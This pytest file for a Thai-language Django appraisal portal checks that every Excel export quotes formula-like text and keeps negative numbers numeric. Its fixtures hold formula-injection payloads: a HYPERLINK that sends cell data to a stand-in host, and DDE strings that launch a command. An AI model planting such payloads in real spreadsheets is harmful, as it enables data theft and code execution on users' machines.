"""Every export writes text that a spreadsheet could run as a formula as plain text.

Names, positions, units, jobs, KRAs, KPIs, milestone steps and rating bands
start with each character that starts a formula (=, +, -, @, a tab, a
carriage return). Every workbook the app hands out (the round report, the
officer form, the background job's file, the import templates; from the page
and from the command) is read back with openpyxl: such a cell keeps the text,
is a string cell and carries the quote prefix, while numbers (negative ones
too) stay numbers.
"""

import io
from decimal import Decimal
from types import SimpleNamespace

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from appraisals.models import Appraisal
from appraisals.reports import RoundReport
from indicators.models import Round
from kpi_portal.exporters import Sheet, write_workbook
from kpi_portal.jobs import job_start, register
from kpi_portal.models import Job
from orgchart.models import Kind
from tests.conftest import make_node
from tests.factories_reports import (
    freeze,
    make_appraisal,
    make_kpi,
    make_kra,
    make_plan,
    make_round,
    record,
)

# One text per character that starts a formula, each a known injection.
TEXTS = {
    "equals": '=HYPERLINK("http://x.example/?d="&A1,"คลิก")',
    "plus": "+66 81 234 5678",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
STARTS = ("=", "+", "-", "@", "\t", "\r")
NEGATIVE_LEVELS = (-20, -10, 0, 10, 20)
NEGATIVE_ACTUAL = -7


def read(content: bytes):
    return load_workbook(io.BytesIO(content))


def downloaded(response) -> bytes:
    assert response.status_code == 200
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def text_of(cell):
    """A cell's value as Excel shows it: OOXML escapes such as _x000D_ (a carriage return) decoded.

    xlsxwriter writes control characters that way (and a literal "_x000D_" as
    "_x005F_x000D_"); openpyxl does not decode inline strings by itself.
    """
    return unescape(cell.value) if isinstance(cell.value, str) else cell.value


def cells(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield sheet.title, cell


def assert_escaped(book, expected: set[str]) -> None:
    """Every expected text is there as quoted text; no cell is a formula or an unquoted one."""
    texts = {text_of(cell) for _title, cell in cells(book) if isinstance(cell.value, str)}
    assert sorted(expected - texts) == []
    unsafe = [
        (title, cell.coordinate, text_of(cell), cell.data_type, cell.quotePrefix)
        for title, cell in cells(book)
        if cell.data_type == "f"
        or (
            isinstance(cell.value, str)
            and text_of(cell).startswith(STARTS)
            and not (cell.data_type == "s" and cell.quotePrefix)
        )
    ]
    assert unsafe == []


def assert_number(cell, value) -> None:
    assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "n", False)


@pytest.fixture
def data(agency):
    """A round whose texts all start like formulas; the KPIs have negative numbers."""
    the_round = make_round(status=Round.Status.TRACKING)
    unit = make_node("=U", Kind.GROUP, agency.div, name=f"{TEXTS['equals']} กลุ่มงาน")
    head = make_node(
        "@H",
        Kind.INDIVIDUAL,
        unit,
        name=f"{TEXTS['at']} หัวหน้า",
        position=f"{TEXTS['minus']} หัวหน้ากลุ่มงาน",
        is_head=True,
    )
    people, plans, expected = {}, {}, {unit.code, unit.name, head.name, head.position}
    for key, text in TEXTS.items():
        person = make_node(
            f"F-{key}",
            Kind.INDIVIDUAL,
            unit,
            name=f"{text} ชื่อ",
            position=f"{text} ตำแหน่ง",
            position_level=f"{text} ระดับตำแหน่ง",
        )
        plan = make_plan(person, the_round)
        kra = make_kra(plan, name=f"{text} ผลสัมฤทธิ์หลัก", job=f"{text} งาน")
        numeric = make_kpi(
            kra, f"F-{key}-1", name=f"{text} ตัวชี้วัด", levels=NEGATIVE_LEVELS, weight=50
        )
        steps = [f"{text} ขั้นที่ {n}" for n in range(1, 6)]
        milestone = make_kpi(
            kra, f"F-{key}-2", name=f"{text} ขั้นตอน", scale="milestone", levels=steps, weight=50
        )
        milestone.order = 1
        milestone.save(update_fields=["order"])
        record(numeric, NEGATIVE_ACTUAL)
        record(milestone, milestones=3)
        appraisal = make_appraisal(plan)
        Appraisal.objects.filter(pk=appraisal.pk).update(band=f"{text} ระดับผล")
        people[key], plans[key] = person, plan
        expected |= {person.name, person.position, kra.name, kra.job, numeric.name}
        expected |= {milestone.name, *steps, f"{text} ระดับผล"}
    # Text that only looks like a negative number must stay text.
    make_node("F-num", Kind.INDIVIDUAL, unit, name="-15", position="-1")
    expected |= {"-15", "-1"}
    return SimpleNamespace(
        round=the_round, unit=unit, head=head, people=people, plans=plans, expected=expected
    )


def report_expected(data) -> set[str]:
    """The round report shows all but the position levels and the assessor's position."""
    levels = {person.position_level for person in data.people.values()}
    return data.expected - levels


def form_expected(data, key: str) -> set[str]:
    """An officer's form shows that officer, the unit, the assessor and the plan's content."""
    person = data.people[key]
    plan = data.plans[key]
    kpis = list(plan.kpis.all())
    steps = {getattr(kpi, f"milestone_{n}") for kpi in kpis for n in range(1, 6)} - {""}
    return {
        person.name,
        person.position,
        person.position_level,
        data.unit.name,
        data.head.name,
        data.head.position,
        *(kpi.name for kpi in kpis),
        *steps,
    }


def kpi_row(book, code):
    sheet = book["รายตัวชี้วัด"]
    return next(row for row in sheet.iter_rows() if row[4].value == code)


# The round report ------------------------------------------------------------------


def test_the_round_report_download_escapes_every_formula_like_text(agency, data, client_for):
    url = reverse("appraisals:report_download")
    response = client_for(agency.hr).get(url, {"round": data.round.pk})

    book = read(downloaded(response))

    assert_escaped(book, report_expected(data))
    row = kpi_row(book, "F-minus-1")
    for cell, level in zip(row[7:12], NEGATIVE_LEVELS, strict=True):
        assert_number(cell, level)
    assert_number(row[13], NEGATIVE_ACTUAL)
    officer = next(r for r in book["รายบุคคล"].iter_rows() if r[2].value == "F-num")
    assert (officer[3].value, officer[3].data_type, officer[3].quotePrefix) == ("-15", "s", True)


def test_the_round_report_command_escapes_every_formula_like_text(data, tmp_path):
    target = tmp_path / "round.xlsx"

    call_command("export_round", data.round.code, str(target))

    assert_escaped(read(target.read_bytes()), report_expected(data))


def test_the_report_of_a_closed_round_escapes_the_placement_kept_at_close(agency, data, client_for):
    """A closed round shows what was frozen on each appraisal, not the live tree."""
    for appraisal in Appraisal.objects.filter(plan__round=data.round).select_related(
        "plan__owner__parent"
    ):
        freeze(appraisal, data.head)
    Round.objects.filter(pk=data.round.pk).update(status=Round.Status.CLOSED)
    # The live tree changes after the close; the frozen names are what the report shows.
    data.unit.name = "กลุ่มงานเปลี่ยนชื่อหลังปิดรอบ"
    data.unit.save()

    url = reverse("appraisals:report_download")
    book = read(downloaded(client_for(agency.hr).get(url, {"round": data.round.pk})))

    # Only people with a plan are listed once the round is closed.
    frozen = report_expected(data) - {data.head.name, data.head.position, "-15", "-1"}
    assert_escaped(book, frozen)
    assert_number(kpi_row(book, "F-plus-1")[7], NEGATIVE_LEVELS[0])


# The officer form -----------------------------------------------------------------


@pytest.mark.parametrize("key", TEXTS)
def test_the_officer_form_download_escapes_every_formula_like_text(key, agency, data, client_for):
    plan = data.plans[key]
    response = client_for(agency.hr).get(reverse("appraisals:export_form", args=[plan.pk]))

    book = read(downloaded(response))

    assert_escaped(book, form_expected(data, key))
    sheet = book.active
    row = next(r for r in sheet.iter_rows() if text_of(r[1]) == f"{TEXTS[key]} ตัวชี้วัด")
    for cell, level in zip(row[2:7], NEGATIVE_LEVELS, strict=True):
        assert_number(cell, level)


def test_the_officer_form_command_escapes_every_formula_like_text(data, tmp_path):
    target = tmp_path / "form.xlsx"

    call_command("export_form", data.round.code, "F-equals", str(target))

    assert_escaped(read(target.read_bytes()), form_expected(data, "equals"))


# A background job's file ------------------------------------------------------------


def round_report_job(job, progress):
    """A job that writes the round report, as the report jobs do (kpi_portal.jobs)."""
    the_round = Round.objects.get(pk=job.params["round"])
    path = job.output_path("round.xlsx")
    write_workbook(RoundReport(the_round, job.requested_by), path, progress=progress)
    return path, "ส่งออกแล้ว"


register("tests.formula_round_report", round_report_job, title="รายงานทดสอบ")


def test_a_job_file_escapes_every_formula_like_text(agency, data, client_for, settings, tmp_path):
    settings.PRIVATE_MEDIA_ROOT = tmp_path / "private"
    user = agency.hr.user
    job = job_start(kind="tests.formula_round_report", params={"round": data.round.pk}, by=user)
    assert job.status == Job.Status.DONE

    response = client_for(agency.hr).get(reverse("jobs:download", args=[job.pk]))

    assert_escaped(read(downloaded(response)), report_expected(data))


# The import templates --------------------------------------------------------------


@pytest.mark.parametrize("name", ["orgchart:import_template", "indicators:import_template"])
def test_the_import_templates_hold_no_formula(name, agency, client_for):
    book = read(downloaded(client_for(agency.hr).get(reverse(name))))

    assert_escaped(book, set())
    assert all(cell.data_type in ("s", "n") for _title, cell in cells(book))


# The writer itself: every starting character, numbers of every sign -----------------


class _Sample:
    identifier = "sample"

    def __init__(self, values):
        self.values = values

    def filename(self):
        return "sample.xlsx"

    def total_rows(self):
        return None

    def sheets(self):
        yield Sheet(name="ตัวอย่าง", headers=["ค่า"], rows=([value] for value in self.values))


@pytest.mark.parametrize(
    "text",
    [*TEXTS.values(), "\r_x000D_=1", "\n=1+1", "＝1+1", "＋1", "－1", "＠A1", "-", "=", "-0", "+1"],
)
def test_the_writer_quotes_every_formula_start_and_keeps_the_text(text):
    output = io.BytesIO()
    write_workbook(_Sample([text]), output)

    cell = read(output.getvalue()).active["A2"]

    assert (text_of(cell), cell.data_type, cell.quotePrefix) == (text, "s", True)


@pytest.mark.parametrize(
    "value",
    [-5, -0.5, Decimal("-12.3400"), Decimal("-0.0001"), 0, 7, Decimal("85.5")],
    ids=str,
)
def test_the_writer_keeps_numbers_of_every_sign_as_numbers(value):
    output = io.BytesIO()
    write_workbook(_Sample([value]), output)

    cell = read(output.getvalue()).active["A2"]

    assert cell.data_type == "n" and not cell.quotePrefix
    assert Decimal(str(cell.value)) == Decimal(value)


def test_plain_text_is_not_quoted():
    output = io.BytesIO()
    write_workbook(_Sample(["นายสมชาย ตั้งใจ", "ร้อยละ 80", "a=b", " =1+1"]), output)

    sheet = read(output.getvalue()).active

    assert [sheet[f"A{n}"].quotePrefix for n in range(2, 6)] == [False] * 4
